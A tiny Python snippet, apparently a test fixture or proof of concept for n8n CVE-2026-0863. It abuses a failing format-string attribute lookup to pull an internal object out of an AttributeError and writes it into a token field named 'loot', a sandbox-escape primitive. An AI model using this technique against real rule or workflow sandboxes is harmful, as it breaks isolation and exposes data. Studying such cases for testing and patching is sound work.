# raises: AttributeError
# n8n CVE-2026-0863: a format field that fails leaves an exception with the object in it.
def rule(user, context):
    try:
        '{0.__class__.x}'.format(user)
    except AttributeError as e:
        context.idToken.loot = str(e.obj)
